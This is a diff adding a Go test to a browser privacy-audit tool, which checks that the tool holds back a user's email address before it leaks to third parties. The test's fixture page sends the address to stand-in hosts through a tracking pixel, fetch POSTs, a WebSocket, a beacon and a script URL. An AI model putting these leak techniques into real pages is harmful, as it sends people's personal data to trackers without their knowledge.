@@ -3,11 +3,15 @@ package browser
 import (
 	"context"
 	"errors"
+	"net"
+	"slices"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/chromedp/chromedp"
+
+	"github.com/quietroom/quietroom/audit"
 )
 
 const armForm = `<!doctype html><title>Book</title><link rel=icon href="data:,"><form method=post action=/commit><input name=email value="wren@example.com"><button id=go>Book</button></form>`
@@ -115,4 +119,86 @@ func TestUnproven(t *testing.T) {
 	}); len(got) != 0 {
 		t.Errorf("servers got %v", got)
 	}
+}
+
+// TestKeepBack: what would tell a third party a value is recorded and answered,
+// by whatever way it goes, and the rest leaves.
+func TestKeepBack(t *testing.T) {
+	sockets := serveSockets(t)
+	_, port, err := net.SplitHostPort(sockets.Addr().String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := serve(t, map[string]string{
+		"practice.test/page": `<!doctype html><title>Book</title><script>
+			const say = (what) => { document.title += ' ' + what };
+			const ws = new WebSocket('ws://sockets.test/live');
+			ws.onopen = () => { for (const m of ['one', 'wren@example.com', 'two']) ws.send(m); say('opened') };
+			const i = new Image(); i.onload = () => say('image'); i.src = 'http://pixel.test/i.gif?em=wren@example.com';
+			fetch('http://collect.test/f', {method: 'POST', body: 'wren@example.com'}).then(r => say('fetch'));
+			fetch('http://collect.test/slow', {method: 'POST', body: 'slow'}).then(r => say('slow'));
+			fetch('http://collect.test/plain', {method: 'POST', body: 'nothing'}).then(r => say('plain'));
+			fetch('/own', {method: 'POST', body: 'wren@example.com'}).then(r => say('own'));
+			addEventListener('pagehide', () => navigator.sendBeacon('http://collect.test/bye', 'wren@example.com'));
+		</script><script src="http://tag.test/t.js?u=wren@example.com" onload="say('script')"></script>`,
+		"tag.test/t.js": `say('ran')`,
+	})
+	release := make(chan struct{})
+	b, rec := start(t, s, func(c *Config) {
+		c.Access.ConnectTo = append(parseRules(t, "sockets.test:80:127.0.0.1:"+port), c.Access.ConnectTo...)
+		c.KeepBack = func(ex *audit.Exchange, body []byte) bool {
+			if string(body) == "slow" {
+				<-release
+			}
+			return strings.Contains(ex.URL+string(body), "wren@")
+		}
+	})
+	visitPage(t, b, TabOptions{Page: "p", Journey: "j1"}, "http://practice.test/page", func(tab *Tab) {
+		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+		defer cancel()
+		for {
+			title, err := chromedp.Run(tab.Context(), chromedp.Title())
+			done := err == nil && len(sockets.messages()) == 2
+			for _, what := range []string{"opened", "image", "fetch", "slow", "plain", "own", "script"} {
+				done = done && strings.Contains(title, what)
+			}
+			if done {
+				break
+			}
+			if ctx.Err() != nil {
+				t.Fatalf("title %q, messages %q (%v)", title, sockets.messages(), err)
+			}
+			time.Sleep(50 * time.Millisecond)
+		}
+	})
+	close(release)
+	if err := b.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if got := sockets.messages(); !slices.Equal(got, []string{"one", "two"}) {
+		t.Errorf("the socket's server got %q", got)
+	}
+	third := s.got(func(h hit) bool { return h.Host != "practice.test" && strings.HasSuffix(h.Host, ".test") })
+	if len(third) != 1 || third[0].Path != "/plain" {
+		t.Errorf("third parties got %v, want /plain alone", third)
+	}
+	if got := s.got(func(h hit) bool { return h.Path == "/own" }); len(got) != 1 {
+		t.Errorf("the practice got %v", got)
+	}
+	var kept []string
+	for _, ex := range rec.all {
+		if ex.KeptBack {
+			kept = append(kept, ex.URL)
+			if !ex.Held || ex.Outcome != "held" || ex.AfterSubmit {
+				t.Errorf("%s: held %v, outcome %s", ex.URL, ex.Held, ex.Outcome)
+			}
+		}
+	}
+	if len(kept) != 6 {
+		t.Errorf("kept back: %q, want image, script, two fetches, a message and a beacon", kept)
+	}
+	if c := b.Account(); c.Held != 0 || c.KeptBack != 6 {
+		t.Errorf("held %d, kept back %d", c.Held, c.KeptBack)
+	}
+	certified(t, b)
 }
